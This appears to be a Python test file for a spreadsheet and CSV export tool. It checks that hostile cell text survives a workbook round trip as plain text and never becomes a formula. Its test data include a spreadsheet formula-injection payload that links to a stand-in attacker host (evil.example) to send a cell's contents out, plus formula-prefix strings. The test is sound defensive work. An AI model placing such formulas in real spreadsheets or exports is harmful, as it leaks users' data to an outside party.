"""Hostile cell content goes into a workbook safely and comes back as the same text."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
from rdflib import DCTERMS, RDF, SKOS, Literal, URIRef

from integrationskonzept.authoring import import_city
from integrationskonzept.authoring.cells import (
    XLSX_MAX_LENGTH,
    from_csv_text,
    join_values,
    split_values,
    to_csv_text,
)
from integrationskonzept.authoring.csvw import csv_text, read_csv_folder
from integrationskonzept.authoring.extract import extract
from integrationskonzept.authoring.init import template
from integrationskonzept.authoring.workbook import put, workbook_bytes
from integrationskonzept.authoring.workbook_read import read_workbook
from integrationskonzept.errors import InputError
from integrationskonzept.load import load
from integrationskonzept.namespaces import IK

BASE = "https://example.org/musterstadt/"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "'quoted",
    "Zeile 1\nZeile 2\r\nZeile 3\rEnde",
    "Steuerzeichen: \x00\x01\x07\x0b\x0c\x1b[31m\x7f\x85 \ufffe\uffff",
    "Escape-artig: _x0041_ _x005F_ x005F_ __x0001__ _xZZZZ_",
    "Umlaute äöüß „Zitat“ – 🙂",
    "a" * XLSX_MAX_LENGTH,
]
# what RDF text can hold (no lone surrogates), not only blanks (a blank cell is empty)
texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=300).filter(
    lambda text: text.strip() != ""
)


def _xlsx_round_trip(values: list[str]) -> list[object]:
    book = Workbook()
    sheet = book.active
    sheet.title = "T"
    for row, value in enumerate(values, start=3):
        put(sheet, row, 1, value)
    stream = io.BytesIO()
    book.save(stream)
    path = Path(_tmp()) / "t.xlsx"
    path.write_bytes(stream.getvalue())
    table = read_workbook(path)["T"]
    return [cells[0] for _, cells in table.rows]


def _tmp() -> str:
    import tempfile

    return tempfile.mkdtemp()


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_a_string_cell_and_reads_back_the_same(text: str) -> None:
    assert _xlsx_round_trip([text]) == [text]


@settings(max_examples=60, deadline=None)
@given(st.lists(texts, min_size=1, max_size=5))
def test_any_text_reads_back_the_same_from_a_workbook(values: list[str]) -> None:
    assert _xlsx_round_trip(values) == values


@settings(max_examples=100, deadline=None)
@given(texts)
def test_any_text_reads_back_the_same_from_csv(text: str) -> None:
    assert from_csv_text(to_csv_text(text)) == text
    assert not to_csv_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@settings(max_examples=100, deadline=None)
@given(st.lists(texts, min_size=1, max_size=4))
def test_several_values_in_one_cell_read_back_the_same(values: list[str]) -> None:
    assert split_values(join_values(values, escape=True), escape=True) == values


def test_hostile_titles_survive_export_and_import(tmp_path: Path) -> None:
    graph = template("Musterstadt", BASE, "ms")
    report_iri = URIRef(BASE + "report-1")
    sections = []
    for number, text in enumerate(HOSTILE, start=2):
        section = URIRef(f"{BASE}report-1/section/{number}")
        sections.append((section, text))
        for triple in (
            (section, RDF.type, IK.ReportSection),
            (section, IK.sectionNumber, Literal(str(number))),
            (section, DCTERMS.title, Literal(text, lang="de")),
            (section, SKOS.prefLabel, Literal(f"Abschnitt {number}", lang="de")),
            (section, DCTERMS.isPartOf, report_iri),
            (section, DCTERMS.source, section),
        ):
            graph.add(triple)
    tables = extract({"documents.ttl": graph})
    assert tables.other == []  # every hostile text is in a cell of its own
    (tmp_path / "city.xlsx").write_bytes(workbook_bytes(tables))
    book = load_workbook(tmp_path / "city.xlsx")
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    report = import_city(tmp_path / "city.xlsx", tmp_path / "out")
    assert not report.failed, report.to_text()
    imported = load(tmp_path / "out", ontology=False)
    for section, text in sections:
        assert list(imported.objects(section, DCTERMS.title)) == [Literal(text, lang="de")]


def test_csv_keeps_hostile_text(tmp_path: Path) -> None:
    rows: list[list[object]] = [["h1"], ["h2"], *([text] for text in HOSTILE)]
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "t.csv").write_text("\ufeff" + csv_text(rows), encoding="utf-8")  # type: ignore[arg-type]
    table = read_csv_folder(folder)["t.csv"]
    assert [cells[0] for _, cells in table.rows] == HOSTILE


def test_a_text_too_long_for_a_cell_is_refused_with_its_place() -> None:
    book = Workbook()
    with pytest.raises(InputError, match=r"Sheet!A3: the text has 32,768 characters"):
        put(book.active, 3, 1, "x" * (XLSX_MAX_LENGTH + 1))
